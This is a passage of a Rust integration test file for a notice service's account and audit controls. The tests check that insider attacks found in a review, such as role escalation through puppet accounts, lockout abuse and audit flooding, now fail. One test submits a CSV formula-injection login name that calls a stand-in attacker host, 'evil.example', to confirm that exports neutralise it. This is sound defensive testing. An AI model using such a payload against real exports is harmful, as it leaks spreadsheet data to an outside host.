//! Accounts and the audit log against hostile insiders (the issue "三員分立 reduces to one
//! administrator"): each test is named after what the review did and checks it no longer works.

mod common;

use std::net::SocketAddr;

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Request, StatusCode, header};
use chrono::Duration;
use common::service::{Harness, PASSWORD, Staff, notice, run};
use noticecast::service::domain::accounts::Role;
use serde_json::{Value, json};

const T0: &str = "2026-11-27T09:00:00+08:00";

fn office() -> Harness {
    let h = Harness::new(T0);
    h.add_user("admin", Role::Sysadmin);
    h.add_user("安全员", Role::Secadmin);
    h.add_user("审计员", Role::Auditor);
    h.add_user("王芳", Role::Editor);
    h.add_user("李审核", Role::Reviewer);
    h
}

/// A login as JSON from `address`; the reply.
async fn login_from(
    h: &Harness,
    name: &str,
    password: &str,
    address: &str,
) -> common::service::Reply {
    let mut request = Request::post("/api/login")
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(
            json!({"name": name, "password": password}).to_string(),
        ))
        .unwrap();
    let peer: SocketAddr = format!("{address}:40000").parse().unwrap();
    request.extensions_mut().insert(ConnectInfo(peer));
    h.send(request).await
}

/// Logs in with `password` (a one-time code, say); the session.
async fn login_with(h: &Harness, name: &str, password: &str) -> Staff {
    let r = login_from(h, name, password, "192.0.2.1").await;
    assert_eq!(r.status, StatusCode::OK, "{name}: {}", r.text());
    let cookie = r.headers[header::SET_COOKIE].to_str().unwrap();
    Staff {
        cookie: cookie.split(';').next().unwrap().to_string(),
        csrf: r.json()["csrf_token"].as_str().unwrap().to_string(),
    }
}

/// The sysadmin adds an account through the API: its one-time code.
async fn add_account(h: &Harness, sysadmin: &Staff, name: &str) -> String {
    let r = h.post("/api/users", sysadmin, json!({"name": name})).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let body = r.json();
    assert_eq!(body["role"], "none", "{body}");
    assert_eq!(body["must_change_password"], true, "{body}");
    body["one_time_code"].as_str().unwrap().to_string()
}

async fn change_password(h: &Harness, who: &Staff, current: &str, new: &str) -> StatusCode {
    let r = h
        .put(
            "/api/me/password",
            who,
            json!({"current": current, "new": new}),
        )
        .await;
    r.status
}

fn audit(h: &Harness) -> Vec<noticecast::service::domain::audit::AuditEntry> {
    noticecast::service::domain::audit::list(&h.service.db(), None, 1000).unwrap()
}

/// "The secadmin grants a puppet account secadmin, resets its password, logs in as it and grants
/// itself any role": administrators' roles are granted only on the host, and nobody resets an
/// administrator's password over the API.
#[test]
fn secadmin_cannot_grant_a_puppet_secadmin_and_act_through_it() {
    let h = office();
    run(async {
        let secadmin = h.login("安全员").await;
        for role in ["secadmin", "sysadmin", "auditor"] {
            let r = h
                .put("/api/users/王芳", &secadmin, json!({"role": role}))
                .await;
            assert_eq!(r.status, StatusCode::FORBIDDEN, "{role}: {}", r.text());
            assert!(r.text().contains("noticecast user grant"), "{}", r.text());
        }
        // Nor a role to themselves, nor to or from an administrator.
        let r = h
            .put("/api/users/安全员", &secadmin, json!({"role": "editor"}))
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN);
        assert!(r.text().contains("themselves"), "{}", r.text());
        let r = h
            .put("/api/users/审计员", &secadmin, json!({"role": "editor"}))
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
        // And the puppet's password is not the secadmin's to set.
        let r = h
            .put(
                "/api/users/王芳",
                &secadmin,
                json!({"reset_password": true}),
            )
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
        let r = h
            .put(
                "/api/users/王芳",
                &secadmin,
                json!({"password": "chosen by secadmin"}),
            )
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
        assert!(r.text().contains("password"), "{}", r.text());
        // Nothing changed: 王芳 is an editor still, with her own password.
        h.login("王芳").await;
        let user = noticecast::service::domain::accounts::user_by_name(&h.service.db(), "王芳")
            .unwrap()
            .unwrap();
        assert_eq!(user.role, Role::Editor);
    });
}

/// "The secadmin resets the sysadmin's and the auditor's passwords and logs in as them": no
/// administrator's password is reset, nor an administrator disabled, over the API, by anyone.
#[test]
fn secadmin_cannot_reset_an_administrators_password() {
    let h = office();
    run(async {
        let secadmin = h.login("安全员").await;
        let sysadmin = h.login("admin").await;
        for (who, target) in [
            (&secadmin, "admin"),
            (&secadmin, "审计员"),
            (&sysadmin, "审计员"),
            (&sysadmin, "安全员"),
        ] {
            let r = h
                .put(
                    &format!("/api/users/{target}"),
                    who,
                    json!({"reset_password": true}),
                )
                .await;
            assert_eq!(r.status, StatusCode::FORBIDDEN, "{target}: {}", r.text());
            assert!(r.text().contains("noticecast user reset"), "{}", r.text());
            assert!(r.json().get("one_time_code").is_none());
            let r = h
                .put(
                    &format!("/api/users/{target}"),
                    who,
                    json!({"disabled": true}),
                )
                .await;
            assert_eq!(r.status, StatusCode::FORBIDDEN, "{target}: {}", r.text());
        }
        // Their own passwords still work.
        h.login("admin").await;
        h.login("审计员").await;
    });
}

/// "A sysadmin creates an editor and a reviewer with passwords of their choosing and publishes
/// alone": a new account has no role and a one-time code; the sysadmin cannot grant it a role;
/// logging in with the code and choosing a password gives an account that can do nothing until
/// the security administrator grants a role. Resetting an existing editor's and reviewer's
/// passwords suspends their roles the same way.
#[test]
fn sysadmin_cannot_create_an_editor_and_a_reviewer_and_publish_alone() {
    let h = office();
    run(async {
        let sysadmin = h.login("admin").await;
        // Chosen roles and passwords are refused by name.
        let r = h
            .post(
                "/api/users",
                &sysadmin,
                json!({"name": "puppet", "role": "editor"}),
            )
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
        assert!(r.text().contains("role"), "{}", r.text());
        let r = h
            .post(
                "/api/users",
                &sysadmin,
                json!({"name": "puppet", "password": "a password I chose"}),
            )
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
        let editor_code = add_account(&h, &sysadmin, "puppet-editor").await;
        let reviewer_code = add_account(&h, &sysadmin, "puppet-reviewer").await;
        assert_ne!(editor_code, reviewer_code);
        // The sysadmin grants no role.
        let r = h
            .put(
                "/api/users/puppet-editor",
                &sysadmin,
                json!({"role": "editor"}),
            )
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
        // Using the codes themselves, the sysadmin gets accounts without a role.
        let editor = login_with(&h, "puppet-editor", &editor_code).await;
        assert_eq!(
            change_password(&h, &editor, &editor_code, "sysadmin's own choice 1").await,
            StatusCode::NO_CONTENT
        );
        let r = h
            .post(
                "/api/notices",
                &editor,
                notice("独自发布", &["*"], T0, None),
            )
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
        assert!(r.text().contains("no role yet"), "{}", r.text());
        // Resetting the real editor and reviewer: their roles are suspended with the password.
        for name in ["王芳", "李审核"] {
            let r = h
                .put(
                    &format!("/api/users/{name}"),
                    &sysadmin,
                    json!({"reset_password": true}),
                )
                .await;
            assert_eq!(r.status, StatusCode::OK, "{}", r.text());
            let body = r.json();
            assert_eq!(body["role"], "none", "{body}");
            let code = body["one_time_code"].as_str().unwrap().to_string();
            let taken = login_with(&h, name, &code).await;
            assert_eq!(
                change_password(&h, &taken, &code, "sysadmin's own choice 2").await,
                StatusCode::NO_CONTENT
            );
            let r = h.get("/api/notices", &taken).await;
            assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
        }
        // The old password stopped working at the reset.
        let r = login_from(&h, "王芳", PASSWORD, "192.0.2.9").await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED);
        // Only the security administrator's grant makes an account act, and the log shows
        // both steps with their actors.
        let secadmin = h.login("安全员").await;
        let r = h
            .put(
                "/api/users/puppet-editor",
                &secadmin,
                json!({"role": "editor"}),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        let r = h
            .post(
                "/api/notices",
                &editor,
                notice("两人办理", &["*"], T0, None),
            )
            .await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
        let log = audit(&h);
        for (actor, action, subject) in [
            ("admin", "user.add", "user puppet-editor"),
            ("puppet-editor", "user.password", "user puppet-editor"),
            ("admin", "user.reset", "user 王芳"),
            ("安全员", "user.change", "user puppet-editor"),
        ] {
            assert!(
                log.iter()
                    .any(|e| e.actor == actor && e.action == action && e.subject == subject),
                "{actor} {action} {subject}"
            );
        }
    });
}

/// The security administrator grants a role only once the owner has replaced the code: a role
/// on an unused code would be a role for whoever holds the code.
#[test]
fn secadmin_grants_a_role_only_after_the_one_time_code_is_replaced() {
    let h = office();
    run(async {
        let sysadmin = h.login("admin").await;
        let secadmin = h.login("安全员").await;
        let code = add_account(&h, &sysadmin, "newcomer").await;
        let r = h
            .put("/api/users/newcomer", &secadmin, json!({"role": "editor"}))
            .await;
        assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.text());
        assert!(r.text().contains("one-time code"), "{}", r.text());
        let me = login_with(&h, "newcomer", &code).await;
        assert_eq!(
            change_password(&h, &me, &code, "a brand new secret").await,
            StatusCode::NO_CONTENT
        );
        let r = h
            .put(
                "/api/users/newcomer",
                &secadmin,
                json!({"role": "reviewer"}),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        assert_eq!(r.json()["role"], "reviewer");
    });
}

/// "Nobody can change their own password, so every administrator keeps the passwords they set":
/// `PUT /api/me/password` checks the current password, applies the rules, ends the user's other
/// sessions and keeps the one asking.
#[test]
fn everyone_changes_their_own_password_and_other_sessions_end() {
    let h = office();
    run(async {
        let here = h.login("审计员").await;
        let elsewhere = h.login("审计员").await;
        let r = h
            .put(
                "/api/me/password",
                &here,
                json!({"current": "not it at all", "new": "auditor's new words"}),
            )
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
        assert!(r.text().contains("current"), "{}", r.text());
        for (bad, why) in [
            ("short", "10 characters"),
            ("审计员's secret words", "user name"),
            (PASSWORD, "current password"),
        ] {
            let r = h
                .put(
                    "/api/me/password",
                    &here,
                    json!({"current": PASSWORD, "new": bad}),
                )
                .await;
            assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
            assert!(r.text().contains(why), "{why}: {}", r.text());
            assert_eq!(r.json()["problems"][0]["field"], "new", "{}", r.text());
        }
        assert_eq!(
            change_password(&h, &here, PASSWORD, "auditor's new words").await,
            StatusCode::NO_CONTENT
        );
        assert_eq!(h.get("/api/session", &here).await.status, StatusCode::OK);
        assert_eq!(
            h.get("/api/session", &elsewhere).await.status,
            StatusCode::UNAUTHORIZED
        );
        let r = login_from(&h, "审计员", PASSWORD, "192.0.2.2").await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED);
        login_with(&h, "审计员", "auditor's new words").await;
        // A wrong current password is a failed login to the auditor.
        assert!(
            audit(&h)
                .iter()
                .any(|e| e.action == "login.failed" && e.subject == "password change")
        );
    });
}

/// A password that is a one-time code logs in, but every route other than changing it, the
/// session and logout answers 403 saying why; the console sends the user to 修改密码.
#[test]
fn a_one_time_code_opens_only_the_change_of_password() {
    let h = office();
    run(async {
        let sysadmin = h.login("admin").await;
        let code = add_account(&h, &sysadmin, "newcomer").await;
        let me = login_with(&h, "newcomer", &code).await;
        let r = h.get("/api/session", &me).await;
        assert_eq!(r.status, StatusCode::OK);
        assert_eq!(r.json()["user"]["must_change_password"], true);
        for path in ["/api/notices", "/api/groups", "/api/screens"] {
            let r = h.get(path, &me).await;
            assert_eq!(r.status, StatusCode::FORBIDDEN, "{path}");
            assert!(
                r.text().contains("must change the password first"),
                "{}",
                r.text()
            );
        }
        // The console: to the page that says why.
        let console = |path: &str| {
            Request::get(path)
                .header(header::COOKIE, &me.cookie)
                .body(Body::empty())
                .unwrap()
        };
        let r = h.send(console("/console/notices")).await;
        assert_eq!(r.status, StatusCode::SEE_OTHER);
        assert_eq!(r.headers[header::LOCATION], "/console/password");
        let r = h.send(console("/console/password")).await;
        assert_eq!(r.status, StatusCode::OK);
        assert!(r.text().contains("一次性密码"), "{}", r.text());
        // Changed through the console's form: then it is an account without a role.
        let form = format!(
            "csrf={}&current={}&new={}&again={}",
            me.csrf,
            urlencode(&code),
            urlencode("a brand new secret"),
            urlencode("a brand new secret")
        );
        let r = h
            .send(
                Request::post("/console/password")
                    .header(header::COOKIE, &me.cookie)
                    .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                    .body(Body::from(form))
                    .unwrap(),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        assert!(r.text().contains("密码已修改"), "{}", r.text());
        let r = h.send(console("/console/notices")).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN);
        assert!(r.text().contains("还没有角色"), "{}", r.text());
        let r = h.get("/api/notices", &me).await;
        assert!(r.text().contains("no role yet"), "{}", r.text());
        assert_eq!(
            h.post("/api/logout", &me, json!({})).await.status,
            StatusCode::NO_CONTENT
        );
    });
}

fn urlencode(s: &str) -> String {
    form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// "Five wrong logins from one address lock every user there out, right password included":
/// failures count per name and address (and per name, and per address for names new there), so
/// another user's right password from the same address still gets in, while guessing the one
/// name from there stops.
#[test]
fn five_wrong_logins_from_one_address_do_not_lock_out_another_users_right_password() {
    let h = office();
    run(async {
        let office_nat = "198.51.100.7";
        for _ in 0..5 {
            let r = login_from(&h, "王芳", "not the password", office_nat).await;
            assert_eq!(r.status, StatusCode::UNAUTHORIZED);
        }
        // 王芳 from there: locked, even with the right password.
        let r = login_from(&h, "王芳", PASSWORD, office_nat).await;
        assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
        // Everyone else behind the same address: in.
        for name in ["李审核", "admin"] {
            let r = login_from(&h, name, PASSWORD, office_nat).await;
            assert_eq!(r.status, StatusCode::OK, "{name}: {}", r.text());
        }
        // 王芳 from home: not held back by failures at another address.
        let r = login_from(&h, "王芳", PASSWORD, "203.0.113.50").await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        // Spraying many names from one address stops there, but a user who logged in from
        // there before is not held back by it.
        // (王芳's five failures count for the address too.)
        for i in 5..noticecast::service::domain::limits::ADDRESS_FAILURES {
            let r = login_from(&h, &format!("guess{i}"), "not the password", office_nat).await;
            assert_eq!(r.status, StatusCode::UNAUTHORIZED, "{i}");
        }
        let r = login_from(&h, "guess-more", "not the password", office_nat).await;
        assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
        let r = login_from(&h, "李审核", PASSWORD, office_nat).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        // Every failed attempt that was checked is in the log for the auditor.
        let failed = audit(&h)
            .iter()
            .filter(|e| e.action == "login.failed")
            .count();
        assert_eq!(
            failed,
            noticecast::service::domain::limits::ADDRESS_FAILURES
        );
    });
}

/// "An editor looping on a refused route writes about 1,260 undeletable audit rows a second":
/// refusals fold into one entry per user, route and minute, and the next entry says how many.
#[test]
fn an_editor_looping_on_a_refused_route_writes_one_audit_entry_a_minute() {
    let h = office();
    run(async {
        let editor = h.login("王芳").await;
        let denied = |h: &Harness| {
            audit(h)
                .into_iter()
                .filter(|e| e.action == "access.denied")
                .collect::<Vec<_>>()
        };
        for i in 0..300 {
            // Different ids: one route all the same.
            let r = h
                .post(
                    &format!("/api/notices/n-{i}/approve"),
                    &editor,
                    json!({"revision": 1, "confidentiality_confirmed": true}),
                )
                .await;
            assert_eq!(r.status, StatusCode::FORBIDDEN);
        }
        let entries = denied(&h);
        assert_eq!(entries.len(), 1, "{entries:?}");
        assert_eq!(entries[0].subject, "POST /api/notices/{id}/approve");
        // Another route is another entry.
        h.get("/api/audit", &editor).await;
        assert_eq!(denied(&h).len(), 2);
        h.advance(Duration::seconds(61));
        let r = h
            .post(
                "/api/notices/n-0/approve",
                &editor,
                json!({"revision": 1, "confidentiality_confirmed": true}),
            )
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN);
        let entries = denied(&h);
        assert_eq!(entries.len(), 3);
        assert!(
            entries[0].detail.contains("refused 299 more times since"),
            "{}",
            entries[0].detail
        );
        // A loop that stops within its minute: its count is written by the next refusal of
        // anyone a minute later.
        for _ in 0..20 {
            h.get("/api/audit", &editor).await;
        }
        h.advance(Duration::seconds(61));
        let reviewer = h.login("李审核").await;
        h.get("/api/audit", &reviewer).await;
        let entries = denied(&h);
        let flushed = entries
            .iter()
            .find(|e| e.actor == "王芳" && e.detail.contains("refused 19 more times since"))
            .unwrap_or_else(|| panic!("{entries:?}"));
        assert_eq!(flushed.subject, "GET /api/audit");
        assert_eq!(entries[0].actor, "李审核");
    });
}

/// "An unauthenticated login name `=HYPERLINK(…)` reaches the auditor's CSV as a spreadsheet
/// formula": cells that begin with = + - @, a tab or CR are neutralised.
#[test]
fn a_login_name_formula_does_not_reach_the_auditors_csv_as_a_formula() {
    let h = office();
    run(async {
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
        let r = login_from(&h, formula, "whatever it is", "192.0.2.66").await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED);
        let r = login_from(&h, "@SUM(1+1)", "whatever it is", "192.0.2.66").await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED);
        let auditor = h.login("审计员").await;
        let r = h.get("/api/audit/export?format=csv", &auditor).await;
        assert_eq!(r.status, StatusCode::OK);
        let csv = r.text();
        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
        assert!(csv.contains("\"'@SUM(1+1)\""), "{csv}");
        // No cell starts a formula: after every separator or line start, no = + - @.
        for line in csv.lines().skip(1) {
            for cell in line.split("\",\"") {
                let cell = cell.trim_start_matches('"');
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?} in {line}"
                );
            }
        }
    });
}

/// The report's CSV passes its cells through the same rule: a channel is a group name (only
/// letters, digits, - _), but its paragraph and every other cell go through `csv_cell` too.
#[test]
fn every_csv_cell_that_could_start_a_formula_is_neutralised() {
    use noticecast::service::domain::audit::csv_cell;
    for (raw, safe) in [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("王芳", "王芳"),
        ("a=b", "a=b"),
    ] {
        assert_eq!(csv_cell(raw), safe);
    }
}

/// The host grants administrators' roles and resets their passwords, each audited from the
/// host, and the reset's code must be replaced at the first login.
#[test]
fn administrators_are_appointed_and_reset_only_on_the_host() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let data_s = data.display().to_string();
    let run_cli = |args: &[&str], stdin: &str| {
        use std::io::Write;
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_noticecast"))
            .args(args)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(stdin.as_bytes())
            .unwrap();
        child.wait_with_output().unwrap()
    };
    let ok = |out: &std::process::Output| {
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    ok(&run_cli(
        &["user", "add", "--data", &data_s, "老李", "--role", "editor"],
        "a long enough password\n",
    ));
    ok(&run_cli(
        &[
            "user", "grant", "--data", &data_s, "老李", "--role", "secadmin",
        ],
        "",
    ));
    let code = ok(&run_cli(&["user", "reset", "--data", &data_s, "老李"], ""));
    assert_eq!(code.len(), 24, "{code}");
    let out = run_cli(&["user", "reset", "--data", &data_s, "nobody"], "");
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("nobody"));
    ok(&run_cli(
        &["user", "disable", "--data", &data_s, "老李"],
        "",
    ));
    ok(&run_cli(&["user", "enable", "--data", &data_s, "老李"], ""));
    let conn = noticecast::service::domain::storage::open(&data.join("noticecast.db")).unwrap();
    let user = noticecast::service::domain::accounts::user_by_name(&conn, "老李")
        .unwrap()
        .unwrap();
    assert_eq!(user.role, Role::Secadmin);
    assert!(user.must_change_password);
    assert!(
        noticecast::service::domain::sessions::check_login(&conn, "老李", &code)
            .unwrap()
            .is_some()
    );
    let log = noticecast::service::domain::audit::list(&conn, None, 100).unwrap();
    for (action, detail) in [
        ("user.change", "role secadmin"),
        ("user.reset", "password reset to a one-time code"),
        ("user.change", "disabled"),
        ("user.change", "enabled"),
    ] {
        assert!(
            log.iter().any(|e| e.action == action
                && e.detail == detail
                && e.source == "host"
                && e.actor == "command line"),
            "{action} {detail}: {log:?}"
        );
    }
}

/// The host's `noticecast user add` keeps bootstrapping an office with chosen passwords (the
/// demo and the README rely on it): its accounts are usable at once.
#[test]
fn the_hosts_user_add_still_bootstraps_an_office() {
    let h = office();
    run(async {
        let r = login_from(&h, "admin", PASSWORD, "192.0.2.3").await;
        assert_eq!(r.status, StatusCode::OK);
        let body: Value = r.json();
        assert_eq!(body["user"]["must_change_password"], false);
        let admin = h.login("admin").await;
        assert_eq!(h.get("/api/users", &admin).await.status, StatusCode::OK);
    });
}

/// "`audit prune` under a clock set forward deletes entries minutes old": prune deletes only
/// entries of a verified export that are older than the retention, measured from the newest
/// entry as well as the clock; a forged export deletes nothing; the database itself refuses.
#[test]
fn audit_prune_under_a_clock_set_forward_deletes_no_young_entry() {
    use noticecast::service::{Options, Service, domain::accounts, domain::audit};
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let real_now = noticecast::service::system_clock()();
    let at = |t: noticecast::model::Timestamp| -> noticecast::service::Clock {
        std::sync::Arc::new(move || t)
    };
    let open = |clock| {
        Service::open(
            &data,
            Options {
                fonts: Some(common::path("fonts")),
                ..Default::default()
            },
            clock,
        )
        .unwrap()
    };
    let old = real_now - Duration::days(200);
    open(at(old))
        .change(|conn, now| {
            accounts::add_user(conn, "test", "old-timer", Role::Editor, PASSWORD, now)
        })
        .unwrap();
    let service = open(at(real_now - Duration::minutes(5)));
    service
        .change(|conn, now| {
            accounts::add_user(conn, "test", "newcomer", Role::Editor, PASSWORD, now)
        })
        .unwrap();
    let export = service
        .read(|conn, now| audit::export(conn, None, now))
        .unwrap();
    let envelope = service
        .sign(
            audit::EXPORT_PAYLOAD_TYPE,
            &serde_json::to_vec(&export).unwrap(),
        )
        .unwrap();
    let file = dir.path().join("export.json");
    std::fs::write(&file, serde_json::to_vec(&envelope).unwrap()).unwrap();
    let mut forged: Value = serde_json::to_value(&envelope).unwrap();
    forged["signatures"][0]["sig"] = json!("AAAA");
    let forged_file = dir.path().join("forged.json");
    std::fs::write(&forged_file, forged.to_string()).unwrap();
    let key = service.public_keys().keys.remove(0).text();
    let count = |service: &Service| audit::list(&service.db(), None, 1000).unwrap().len();
    let before = count(&service);
    drop(service);

    let prune = |export: &std::path::Path, key: Option<&str>| {
        let mut args = vec![
            "audit".to_string(),
            "prune".into(),
            "--data".into(),
            data.display().to_string(),
            "--keep-days".into(),
            "180".into(),
            "--export".into(),
            export.display().to_string(),
        ];
        if let Some(key) = key {
            args.extend(["--key".to_string(), key.to_string()]);
        }
        std::process::Command::new(env!("CARGO_BIN_EXE_noticecast"))
            .args(&args)
            .output()
            .unwrap()
    };
    // A forged export: refused, nothing deleted.
    let out = prune(&forged_file, None);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("forged.json"), "{err}");
    assert_eq!(count(&open(at(real_now))), before);
    // The real one, checked with the key given: only the old entry goes (and the prune is
    // recorded).
    let out = prune(&file, Some(&key));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let service = open(at(real_now));
    let log = audit::list(&service.db(), None, 1000).unwrap();
    assert!(log.iter().all(|e| e.subject != "user old-timer"));
    assert!(log.iter().any(|e| e.subject == "user newcomer"));
    let old_entries = export
        .entries
        .iter()
        .filter(|e| {
            noticecast::model::Timestamp::parse_from_rfc3339(&e.at).unwrap()
                < old + Duration::days(1)
        })
        .count();
    assert!(old_entries >= 1);
    assert!(log.iter().all(|e| {
        noticecast::model::Timestamp::parse_from_rfc3339(&e.at).unwrap() > old + Duration::days(1)
    }));
    let pruned = log.iter().find(|e| e.action == "audit.prune").unwrap();
    assert!(
        pruned
            .detail
            .starts_with(&format!("{old_entries} entries deleted")),
        "{}",
        pruned.detail
    );

    // The clock set a year forward: the young entries of an export stay, whatever asks.
    let forward = real_now + Duration::days(365);
    let export = service
        .read(|conn, now| audit::export(conn, None, now))
        .unwrap();
    let result = service
        .record(|conn, _| audit::prune(conn, "command line", &export, 180, forward))
        .unwrap();
    assert_eq!(result.deleted, 0);
    assert_eq!(result.young, export.entries.len());
    // And the database refuses a delete of a young entry even so.
    assert!(
        service
            .db()
            .execute("DELETE FROM audit WHERE subject = 'user newcomer'", [])
            .is_err()
    );
}

/// The console's 用户 page follows the same rules: a new account's one-time code is shown once,
/// the security administrator is offered editor and reviewer only, and a hand-made form asking
/// for an administrator's role is refused in Chinese.
#[test]
fn the_consoles_user_page_gives_one_time_codes_and_grants_no_administrator_role() {
    let h = office();
    run(async {
        let form = |staff: &Staff, path: &str, fields: &str| {
            Request::post(path)
                .header(header::COOKIE, &staff.cookie)
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::from(format!("csrf={}&{fields}", staff.csrf)))
                .unwrap()
        };
        let sysadmin = h.login("admin").await;
        let r = h.send(form(&sysadmin, "/console/users", "name=xu")).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        let page = r.text();
        assert!(page.contains("一次性密码"), "{page}");
        let code = page
            .split("<pre class=\"token\">")
            .nth(1)
            .and_then(|rest| rest.split("</pre>").next())
            .unwrap()
            .to_string();
        login_with(&h, "xu", &code).await;
        // The list shows the code no more.
        let r = h
            .send(
                Request::get("/console/users")
                    .header(header::COOKIE, &sysadmin.cookie)
                    .body(Body::empty())
                    .unwrap(),
            )
            .await;
        assert!(!r.text().contains(&code));
        let secadmin = h.login("安全员").await;
        let r = h
            .send(
                Request::get("/console/users")
                    .header(header::COOKIE, &secadmin.cookie)
                    .body(Body::empty())
                    .unwrap(),
            )
            .await;
        let page = r.text();
        assert!(page.contains("value=\"reviewer\""), "{page}");
        for role in ["sysadmin", "secadmin", "auditor"] {
            assert!(!page.contains(&format!("value=\"{role}\"")), "{role}");
        }
        let r = h
            .send(form(&secadmin, "/console/users/王芳", "role=secadmin"))
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN);
        assert!(r.text().contains("noticecast user grant"), "{}", r.text());
        assert!(r.text().contains("管理员角色只能"), "{}", r.text());
    });
}

/// A colleague behind the office's address cannot lock out, there, a user who has logged in from
/// it before: the audit log remembers where each name logged in (also across restarts of the
/// service, when the limiter's memory is empty), while a name never seen there is locked there
/// after five wrong passwords.
#[test]
fn a_colleague_behind_the_same_address_cannot_lock_a_known_user_out() {
    let h = office();
    run(async {
        let office_nat = "198.51.100.8";
        // 李审核 logged in from the office last week (before the service restarted).
        h.service
            .record(|conn, now| {
                noticecast::service::domain::audit::set_source(conn, office_nat)?;
                noticecast::service::domain::audit::record(
                    conn,
                    now - Duration::days(7),
                    "李审核",
                    noticecast::service::domain::audit::Action::Login,
                    "console",
                    "",
                )
            })
            .unwrap();
        for name in ["李审核", "王芳"] {
            for _ in 0..5 {
                let r = login_from(&h, name, "not the password", office_nat).await;
                assert_eq!(r.status, StatusCode::UNAUTHORIZED);
            }
        }
        let r = login_from(&h, "李审核", PASSWORD, office_nat).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        let r = login_from(&h, "王芳", PASSWORD, office_nat).await;
        assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS, "{}", r.text());
    });
}

/// "A loop sending `ED` with a wrong password at 5/s kept `ed`'s right password out fifteen times
/// of fifteen": wrong passwords for another spelling, or for the name from other addresses, never
/// keep its owner out, at login or when changing the password.
#[test]
fn wrong_logins_for_a_name_from_elsewhere_do_not_keep_its_owner_out() {
    let h = office();
    run(async {
        let me = login_with(&h, "admin", PASSWORD).await;
        for round in 0..15 {
            for i in 0..3 {
                // Both guessers' own pairs lock after five: nothing else is held back.
                for (name, address) in [
                    ("ADMIN", "203.0.113.9".to_string()),
                    ("admin", format!("203.0.113.{}", 10 + i)),
                ] {
                    let r = login_from(&h, name, "wrong", &address).await;
                    assert!(
                        [StatusCode::UNAUTHORIZED, StatusCode::TOO_MANY_REQUESTS]
                            .contains(&r.status),
                        "{round}.{i}: {}",
                        r.text()
                    );
                }
            }
            let r = login_from(&h, "admin", PASSWORD, "192.0.2.1").await;
            assert_eq!(r.status, StatusCode::OK, "{round}: {}", r.text());
            // A first login from a new address, too.
            let r = login_from(&h, "admin", PASSWORD, &format!("198.51.100.{round}")).await;
            assert_eq!(r.status, StatusCode::OK, "{round}: {}", r.text());
        }
        // The guesser's own pair is locked: guessing stays bounded.
        let r = login_from(&h, "ADMIN", "wrong", "203.0.113.9").await;
        assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS, "{}", r.text());
        assert_eq!(
            change_password(&h, &me, PASSWORD, "a brand new secret").await,
            StatusCode::NO_CONTENT
        );
    });
}

/// "Five wrong passwords every 15 minutes keep every new account out for good": a name whose
/// password is still its one-time code is not locked by anyone's failures, neither for the name
/// at the office's address nor for the address.
#[test]
fn a_new_accounts_one_time_code_is_not_locked_by_strangers() {
    let h = office();
    run(async {
        let office_nat = "198.51.100.20";
        let sysadmin = h.login("admin").await;
        let code = add_account(&h, &sysadmin, "newcomer").await;
        for _ in 0..10 {
            let r = login_from(&h, "newcomer", "not the code", office_nat).await;
            assert_eq!(r.status, StatusCode::UNAUTHORIZED);
        }
